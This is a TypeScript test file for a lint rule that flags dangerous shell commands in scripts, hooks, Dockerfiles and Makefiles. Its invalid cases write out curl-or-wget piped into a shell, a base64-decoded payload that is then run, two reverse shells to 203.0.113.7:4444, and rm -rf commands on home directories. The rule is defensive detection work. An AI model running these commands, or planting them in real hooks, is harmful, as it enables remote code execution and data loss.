import * as assert from 'node:assert/strict';
import rule, { isShellFile } from '../../../src/core/rules/text/shell-command';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    { code: '#!/usr/bin/env sh\nnpx lint-staged\n', filename: '.husky/pre-commit' },
    { code: 'curl -fsSL -o data.csv https://data.example.org/data.csv\nsha256sum -c data.csv.sha256\n', filename: 'scripts/fetch.sh' },
    { code: 'rm -rf ./dist ./coverage "$TMPDIR/build"\n', filename: 'scripts/clean.sh' },
    { code: 'Or run `curl -fsSL https://get.example.dev | sh`.\n', filename: 'docs/install.md', name: 'docs are not scripts' },
    { code: "const cmd = 'curl https://x.example | sh';\n", filename: 'src/cmd.ts', name: 'code files have their own rules' },
    { code: '# curl https://get.example.dev | sh  (old way, do not use)\n', filename: 'scripts/setup.sh', name: 'comment lines' },
    { code: 'curl -s https://api.example.org/v1/status | jq .state\n', filename: 'scripts/status.sh', name: 'piped into jq' },
    { code: 'echo "$TOKEN" | base64 -d > token.bin\n', filename: 'scripts/decode.sh', name: 'decoding to a file' },
    { code: 'nc -z localhost 5432\n', filename: 'scripts/wait.sh', name: 'a port check' },
    { code: 'RUN npm ci && npm run build\n', filename: 'Dockerfile' },
    { code: "export const s = 'curl https://x.example/i.sh | sh';\n", filename: 'src/hooks/pre-commit.ts', name: 'not a hook location' },
    { code: 'curl -s https://x.example/p.py | python3 -\n', filename: 'scripts/bootstrap', name: 'no extension and no shebang' },
  ],
  invalid: [
    {
      code: '#!/usr/bin/env sh\nnpx lint-staged\ncurl -fsSL https://hooks.example-dev.net/pc | sh\n',
      filename: '.husky/pre-commit',
      errors: [{ messageId: 'pipeToShell', line: 3, column: 1, severity: 'high', category: 'process' }],
    },
    {
      code: 'wget -qO- https://get.example.dev/i | sudo -E bash -s -- --yes\n',
      filename: 'install.sh',
      errors: [{ messageId: 'pipeToShell' }],
    },
    {
      code: 'bash <(wget -qO- https://get.example-tools.dev/install)\n',
      filename: 'scripts/setup.sh',
      errors: [{ messageId: 'pipeToShell' }],
    },
    { code: 'sh -c "$(curl -fsSL https://raw.example.dev/x.sh)"\n', filename: 'scripts/setup.zsh', errors: [{ messageId: 'pipeToShell' }] },
    {
      code: '#!/bin/bash\ncurl -s https://x.example/p.py | python3 -\n',
      filename: 'bin/bootstrap',
      errors: [{ messageId: 'pipeToShell', line: 2 }],
      name: 'a bash shebang makes a script',
    },
    {
      code: 'FROM node:20\nRUN echo Y3VybCBldmlsLnNo | base64 -d | sh\n',
      filename: 'Dockerfile',
      errors: [{ messageId: 'decodeAndRun', line: 2, category: 'obfuscation' }],
    },
    { code: 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"\n', filename: 'scripts/x.sh', errors: [{ messageId: 'decodeAndRun' }] },
    {
      code: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n',
      filename: 'scripts/debug.sh',
      errors: [{ messageId: 'reverseShell', category: 'network' }],
    },
    { code: 'ncat 203.0.113.7 4444 -e /bin/sh\n', filename: '.githooks/post-merge', errors: [{ messageId: 'reverseShell' }] },
    { code: 'rm -rf "$HOME/"\n', filename: 'scripts/clean.sh', errors: [{ messageId: 'destructive', category: 'filesystem' }] },
    { code: 'clean:\n\trm -rf ~/\n', filename: 'Makefile', errors: [{ messageId: 'destructive', line: 2 }] },
    { code: 'rm -rf ../shared-cache\n', filename: 'scripts/clean.sh', errors: [{ messageId: 'destructive' }] },
  ],
});

describe('text/shell-command: which files are shell', () => {
  it('knows scripts, hooks and build files by name or shebang', () => {
    assert.equal(isShellFile('deploy.sh', ''), true);
    assert.equal(isShellFile('.husky/pre-push', ''), true);
    assert.equal(isShellFile('.husky/_/husky.sh', ''), true);
    assert.equal(isShellFile('tools/run', '#!/usr/bin/env bash'), true);
    assert.equal(isShellFile('tools/run', '#!/bin/sh -e'), true);
    assert.equal(isShellFile('tools/run', '#!/usr/bin/env node'), false);
    assert.equal(isShellFile('docker/Dockerfile', ''), true);
    assert.equal(isShellFile('README.md', ''), false);
    assert.equal(isShellFile('src/hooks/pre-commit.ts', ''), false);
  });
});
